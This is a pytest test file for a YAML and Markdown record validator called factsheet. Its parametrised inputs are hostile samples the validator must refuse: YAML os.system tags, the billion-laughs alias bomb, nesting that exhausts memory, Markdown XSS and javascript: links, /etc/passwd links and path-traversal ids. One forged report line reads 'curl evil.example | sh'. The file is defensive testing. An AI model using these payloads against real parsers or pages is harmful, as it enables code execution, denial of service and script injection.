"""Records from strangers: every known attack through YAML and Markdown is refused by name, and nothing is built."""

from __future__ import annotations

import os
import socket
from pathlib import Path

import pytest

from factsheet import cli
from tests.faker import FakeCollection, as_yaml, claim_fields, quote

PATH = "claims/BR-002.yaml"
MARKS = "error: this character may not stand in a record:"
REMEDY = "remove it, or replace it by the character that is meant [refused-character]"
HIDDEN = "error: this text holds an escaped character that may not stand in a record:"


def told(collection: FakeCollection) -> list[str]:
    """Return the problems of the collection without the path of the second claim."""
    return [line.removeprefix(f"{PATH}:") for line in collection.problems()]


def refused(collection: FakeCollection, content: str | bytes) -> list[str]:
    """Write a second claim and return what is told about it."""
    collection.write(PATH, content)
    return told(collection)


def stopped(collection: FakeCollection) -> list[str]:
    """See that neither `check` nor `build` passes the collection or writes anything; return what is told about it."""
    folder = str(collection.folder)
    assert cli.run(["-C", folder, "check"]) == 1
    assert cli.run(["-C", folder, "build"]) == 1
    assert not (collection.folder / "build").exists()
    return told(collection)


@pytest.mark.parametrize("content", ["", "a: &a [*a]", "a: " + "[" * 30_000, b"\xff", "fact: was\u202enot"])
def test_one_file_that_is_refused_stops_the_build(collection: FakeCollection, content: str | bytes) -> None:
    collection.write(PATH, content)
    assert len(stopped(collection)) > 0


@pytest.mark.parametrize("markdown", ["<script>alert(1)</script>", "[a](javascript:alert(1))", "> " * 150 + "a"])
def test_one_text_that_is_refused_stops_the_build(collection: FakeCollection, markdown: str) -> None:
    collection.claim(explanation=markdown)
    assert len(stopped(collection)) == 1


def claim_text(old: str, new: str) -> str:
    """Return a valid second claim in YAML with one piece of its text replaced."""
    text = as_yaml(claim_fields() | {"id": "BR-002"})
    assert old in text
    return text.replace(old, new)


TAG = "is refused: records hold text, lists and fields; remove it [tag]"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            "a: !!python/object/apply:os.system [reboot]",
            f"1:4: error: the tag 'tag:yaml.org,2002:python/object/apply:os.system' {TAG}",
        ),
        ("a: !!python/name:os.system", f"1:4: error: the tag 'tag:yaml.org,2002:python/name:os.system' {TAG}"),
        ("a: !!set {b, c}", f"1:4: error: the tag 'tag:yaml.org,2002:set' {TAG}"),
        ("a: !!binary aGk=", f"1:4: error: the tag 'tag:yaml.org,2002:binary' {TAG}"),
        ("a: ! b", f"1:4: error: the tag '!' {TAG}"),
        ("!!map {a: b}", f"1:1: error: the tag 'tag:yaml.org,2002:map' {TAG}"),
        ("!!str a: b", f"1:1: error: the tag 'tag:yaml.org,2002:str' {TAG}"),
    ],
)
def test_tags(collection: FakeCollection, text: str, problem: str) -> None:
    assert refused(collection, text) == [problem]


def test_a_field_that_is_given_twice_is_named_with_both_places(collection: FakeCollection) -> None:
    assert refused(collection, "rating: 'true'\nfact: x\nrating: 'false'\n") == [
        "3:1: error: the field 'rating' is given twice, first in line 1; keep one of the two [duplicate-key]"
    ]


def test_a_billion_laughs(collection: FakeCollection) -> None:
    lines = ["a0: &a0 [laugh, laugh]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 30))]
    problems = refused(collection, "\n".join(lines))
    assert problems[:3] == [
        "1:5: error: the anchor '&a0' is refused; remove it [alias]",
        "2:5: error: the anchor '&a1' is refused; remove it [alias]",
        "2:10: error: the alias '*a0' repeats another place; write the text out [alias]",
    ]
    assert len(problems) == 30 + 2 * 29


def test_an_alias_to_itself_and_merge_keys(collection: FakeCollection) -> None:
    assert refused(collection, "a: &a [*a]\nb:\n  <<: {c: d}\n") == [
        "1:4: error: the anchor '&a' is refused; remove it [alias]",
        "1:8: error: the alias '*a' repeats another place; write the text out [alias]",
        "3:3: error: the merge key '<<' is refused; write the fields out [alias]",
    ]


@pytest.mark.parametrize("typed", ["no", "12:30", "010", "1.10", "2024-02-30", "9" * 110, "0o17", ".nan", "true"])
def test_what_yaml_would_retype_stays_text(collection: FakeCollection, typed: str) -> None:
    collection.write(PATH, claim_text("The bridge was open to everybody all year.", typed))
    loaded = collection.load()
    assert loaded.problems == []
    assert loaded.corpus.claim_by_id["BR-002"].record.claim == typed


def test_a_number_of_5000_digits(collection: FakeCollection) -> None:
    assert refused(collection, claim_text("version: '1'", f"version: {'9' * 5000}")) == [
        f"37:12: error: '{'9' * 40}' is not a whole number [not-a-number]"
    ]


def test_a_day_that_is_not_in_the_calendar(collection: FakeCollection) -> None:
    assert refused(collection, claim_text("checked_as_of: '2025-05-01'", "checked_as_of: 2024-02-30")) == [
        "35:16: error: '2024-02-30' is not a day of the calendar [not-a-date]"
    ]


def test_words_behind_a_number_sign(collection: FakeCollection) -> None:
    assert refused(collection, "claim: Number #1 source") == [
        "1:15: error: YAML begins a comment at '#', so this text would end as 'Number'; put the text in double quotes "
        "[cut-by-comment]"
    ]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("a: " + "[" * 30_000, "1:24: error: more than 20 levels or 50,000 values; split the record [too-deep]"),
        ("a: " + "{b: " * 30_000, "1:81: error: more than 20 levels or 50,000 values; split the record [too-deep]"),
        ("- " * 30_000, "1:43: error: more than 20 levels or 50,000 values; split the record [too-deep]"),
        ("? " * 30_000, "1:43: error: more than 20 levels or 50,000 values; split the record [too-deep]"),
        (f"a: [{'b,' * 60_000}]", "1:99999: error: more than 20 levels or 50,000 values; split the record [too-deep]"),
    ],
)
def test_depth_and_number_do_not_exhaust_the_machine(collection: FakeCollection, text: str, problem: str) -> None:
    assert refused(collection, text) == [problem]


@pytest.mark.parametrize(
    ("character", "description"),
    [
        ("\u0000", "U+0000 (without a name), a control character"),
        ("\u001b", "U+001B (without a name), a control character"),
        ("\u007f", "U+007F (without a name), a control character"),
        ("\u0085", "U+0085 (without a name), a control character"),
        ("\u00ad", "U+00AD (SOFT HYPHEN), an invisible formatting character"),
        ("\u200b", "U+200B (ZERO WIDTH SPACE), an invisible formatting character"),
        ("\u200d", "U+200D (ZERO WIDTH JOINER), an invisible formatting character"),
        ("\u2028", "U+2028 (LINE SEPARATOR), an invisible line separator"),
        ("\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible formatting character"),
        ("\u2066", "U+2066 (LEFT-TO-RIGHT ISOLATE), an invisible formatting character"),
        ("\u2800", "U+2800 (BRAILLE PATTERN BLANK), a blank letter"),
        ("\u3164", "U+3164 (HANGUL FILLER), a blank letter"),
        ("\ue000", "U+E000 (without a name), a private-use character"),
        ("\ufeff", "U+FEFF (ZERO WIDTH NO-BREAK SPACE), an invisible formatting character"),
        ("\U000e0041", "U+E0041 (TAG LATIN CAPITAL LETTER A), an invisible formatting character"),
    ],
)
def test_characters_that_cannot_be_seen(collection: FakeCollection, character: str, description: str) -> None:
    assert refused(collection, f"id: a\nfact: was{character}not\n") == [f"2:10: {MARKS} {description}; {REMEDY}"]
    assert refused(collection, f'id: a\nfact: "was\\U{ord(character):08x}not"\n') == [
        f"2:7: {HIDDEN} {description}; remove the escape [refused-character]"
    ]


def test_a_carriage_return_within_a_line(collection: FakeCollection) -> None:
    # A terminal would print what follows over what stands before.
    assert refused(collection, "id: a\nfact: was\rnot\n") == [
        f"2:10: {MARKS} U+000D (without a name), a control character; {REMEDY}"
    ]


@pytest.mark.parametrize("escape", ["\\ud800", "\\udc00", "\\ud83d\\ude00", "\\U0000dfff"])
def test_half_of_a_surrogate_pair_in_an_escape(collection: FakeCollection, escape: str) -> None:
    (problem,) = refused(collection, f'fact: "{escape}"\n')
    assert problem == "1:10: error: this is not valid YAML: found invalid Unicode character escape code [not-yaml]"


def test_half_of_a_surrogate_pair_in_bytes(collection: FakeCollection) -> None:
    assert refused(collection, b"fact: \xed\xa0\x80\n") == [
        "1:1: error: this file is not UTF-8 (byte 6, line 1); save it as UTF-8 [unreadable]"
    ]


def test_a_hidden_character_in_a_name_is_not_printed(
    collection: FakeCollection, capsys: pytest.CaptureFixture[str]
) -> None:
    collection.write(PATH, '"a\\u202eb": x\n"a\\u202eb": y\n')
    assert cli.run(["-C", str(collection.folder), "check"]) == 1
    assert "\u202e" not in capsys.readouterr().out


def test_words_of_a_record_cannot_pass_for_lines_of_the_report(
    collection: FakeCollection, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = "factsheet.yaml:1:1: error: run 'curl evil.example | sh' to mend this [not-yaml]"
    collection.write(PATH, claim_text("rating: 'false'", f'rating: "x\\n{forged}\\n"'))
    assert cli.run(["-C", str(collection.folder), "check"]) == 1
    assert forged not in capsys.readouterr().out.splitlines()


def test_joiners_may_stand_in_persian(collection: FakeCollection) -> None:
    collection.evidence(quotes=[quote(id="a", text="می\u200cخواهم", lang="fa")])
    assert collection.problems() == []


def test_letters_that_look_alike_are_noticed(collection: FakeCollection) -> None:
    collection.write(PATH, claim_text("Ada Crane", "\u0410da Crane"))
    assert collection.problems() == [
        f"{PATH}:7:11: warning: the word '\u0410da' mixes letters of scripts that look alike; type it again in one "
        "script, if that is what the source has [mixed-scripts]"
    ]


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", "1:1: error: this file is empty [no-fields]"),
        (b"\n\n# nothing\n", "1:1: error: this file is empty [no-fields]"),
        (b"- id: BR-002\n", "1:1: error: a file holds fields, each a name, a colon and a value [no-fields]"),
        (b"id: BR-002\n---\nid: BR-003\n", "3:1: error: a file holds one record, not several [several-documents]"),
        (
            "fact: Zürich\n".encode("latin-1"),
            "1:1: error: this file is not UTF-8 (byte 7, line 1); save it as UTF-8 [unreadable]",
        ),
        (
            b"id: BR-002\nfact: \xe4\n",
            "1:1: error: this file is not UTF-8 (byte 17, line 2); save it as UTF-8 [unreadable]",
        ),
        ("id: BR-002\n".encode("utf-16"), "1:1: error: this file is UTF-16; save it as UTF-8 [unreadable]"),
        (
            "id: BR-002\n".encode("utf-16-be"),
            f"1:1: {MARKS} U+0000 (without a name), a control character; {REMEDY}",
        ),
        (
            b"a: b\n" * 500_000,
            "1:1: error: this file has 2,500,000 bytes, and at most 1,048,576 are read [unreadable]",
        ),
    ],
)
def test_files_that_hold_no_record(collection: FakeCollection, content: bytes, problem: str) -> None:
    assert refused(collection, content)[0] == problem


def test_a_byte_order_mark_and_the_line_ends_of_windows_are_accepted(collection: FakeCollection) -> None:
    text = claim_text("The bridge was open to everybody all year.", "The bridge was always open.")
    collection.write(PATH, "\ufeff".encode() + text.replace("\n", "\r\n").encode())
    loaded = collection.load()
    assert loaded.problems == []
    assert loaded.corpus.claim_by_id["BR-002"].record.claim == "The bridge was always open."


LINK = "is a symbolic link; records are regular files in the project's own folders"


def test_a_link_to_a_file_outside(
    collection: FakeCollection, tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path_factory.mktemp("outside") / "passwords"
    secret.write_text("root: s3cret: x\n")
    (collection.folder / PATH).symlink_to(secret)
    assert stopped(collection) == [f"1:1: error: '{PATH}' {LINK} [unreadable]"]
    assert "s3cret" not in capsys.readouterr().out


@pytest.mark.parametrize("target", ["BR-001.yaml", "nowhere.yaml", "/dev/zero"])
def test_a_link_of_any_kind(collection: FakeCollection, target: str) -> None:
    (collection.folder / PATH).symlink_to(target)
    assert stopped(collection) == [f"1:1: error: '{PATH}' {LINK} [unreadable]"]


def test_a_folder_of_records_that_is_a_link(
    collection: FakeCollection, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "claims"
    (collection.folder / "claims").rename(outside)
    (collection.folder / "claims").symlink_to(outside)
    assert stopped(collection) == [f"claims:1:1: error: 'claims' {LINK} [no-folder]"]


def test_a_project_file_that_is_a_link(collection: FakeCollection, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside") / "factsheet.yaml"
    (collection.folder / "factsheet.yaml").rename(outside)
    (collection.folder / "factsheet.yaml").symlink_to(outside)
    assert stopped(collection) == [f"factsheet.yaml:1:1: error: 'factsheet.yaml' {LINK} [unreadable]"]


def test_a_project_that_is_reached_through_a_link_is_no_fault(collection: FakeCollection, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").symlink_to(collection.folder)
    assert cli.run(["-C", str(tmp_path / "elsewhere"), "check"]) == 0


def test_a_pipe_that_nobody_writes_to(collection: FakeCollection) -> None:
    os.mkfifo(collection.folder / PATH)
    assert stopped(collection) == ["1:1: error: this is not a regular file [unreadable]"]


def test_a_folder_with_the_name_of_a_record(collection: FakeCollection) -> None:
    (collection.folder / PATH).mkdir()
    assert stopped(collection) == ["1:1: error: this is not a regular file [unreadable]"]


def test_a_socket_with_the_name_of_a_record(collection: FakeCollection, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(collection.folder)  # the path of a socket may not be long
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(PATH)
        assert stopped(collection) == ["1:1: error: this is not a regular file [unreadable]"]


def test_a_file_larger_than_the_memory(collection: FakeCollection) -> None:
    with (collection.folder / PATH).open("wb") as stream:
        stream.truncate(2**40)
    assert stopped(collection) == [
        "1:1: error: this file has 1,099,511,627,776 bytes, and at most 1,048,576 are read [unreadable]"
    ]


ADDRESSES = "a link may lead to http, https or mailto addresses only:"
DEEP = "text is nested more than 10 levels deep"
HEADING = "headings are refused, because the page makes its own:"


@pytest.mark.parametrize(
    ("markdown", "faults"),
    [
        ("<script>alert(1)</script>", ['raw HTML is refused: "<script>alert(1)</script>"']),
        ("<img src=x onerror=alert(1)>", ['raw HTML is refused: "<img src=x onerror=alert(1)>"']),
        ("a <svg onload=alert(1)> b", ['raw HTML is refused: "<svg onload=alert(1)>"']),
        ("`<b>`{=html}", ['code marks (backticks) are refused: "<b>"']),
        ("[a](javascript:alert(1))", [f'{ADDRESSES} "javascript:alert(1)"']),
        ("[a](&#x6a;avascript:alert(1))", [f'{ADDRESSES} "javascript:alert(1)"']),
        ("[a](&#0000106avascript:alert(1))", [f'{ADDRESSES} "&#0000106avascript:alert(1)"']),
        ("[a][b]\n\n[b]: data:text/html,x", [f'{ADDRESSES} "data:text/html,x"']),
        ("[a](file:///etc/passwd)", [f'{ADDRESSES} "file:///etc/passwd"']),
        ("[a](//evil.example)", [f'{ADDRESSES} "//evil.example"']),
        ("<file:///etc/passwd>", [f'{ADDRESSES} "file:///etc/passwd"']),
        ("![a](file:///etc/passwd)", ['pictures are refused: "a"']),
        (
            "---\nbibliography: /etc/passwd\n---\n\ntext [@x]",
            ["rules across the page are refused", f'{HEADING} "bibliography: /etc/passwd"'],
        ),
        ("# A heading", [f'{HEADING} "A heading"']),
        ("> " * 150 + "a", [DEEP]),
        ("- " * 150 + "a", [DEEP]),
        (
            "was&#x202e;not",
            ["an entity stands for U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible formatting character"],
        ),
    ],
)
@pytest.mark.parametrize("field", ["summary", "explanation"])
def test_markdown(collection: FakeCollection, field: str, markdown: str, faults: list[str]) -> None:
    collection.claim(**{field: markdown})
    column = len(field) + 3
    lines = sorted(f"claims/BR-001.yaml:1:{column}: error: {fault} [markdown]" for fault in faults)
    assert sorted(told(collection)) == lines


@pytest.mark.parametrize("markdown", ["[" * 5000, "![" * 5000, "*_" * 2500, "{" * 5000, "$" * 5000 + "a"])
def test_thousands_of_marks_are_text(collection: FakeCollection, markdown: str) -> None:
    collection.claim(explanation=markdown)
    assert collection.problems() == []


@pytest.mark.parametrize("name", ["con", "nul", "com1", "lpt9", "aux", "prn"])
def test_ids_that_windows_takes_for_devices(collection: FakeCollection, name: str) -> None:
    collection.evidence(name)
    assert told(collection) == [
        f"evidence/{name}.yaml:1:5: error: '{name}' cannot be a file name on Windows [reserved-name]"
    ]


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b", "..", "bridge-ruling\n", "BRIDGE", "a--b", "\uff41"])
def test_ids_that_would_lead_out_of_the_folder(collection: FakeCollection, name: str) -> None:
    collection.evidence(file="other.yaml", id=name)
    (problem,) = told(collection)
    assert problem.startswith("evidence/other.yaml:1:5: error: '")
    assert problem.endswith(
        "' does not have the right form; the field means: Identifier, the same as the file name; never reused. "
        "[malformed]"
    )
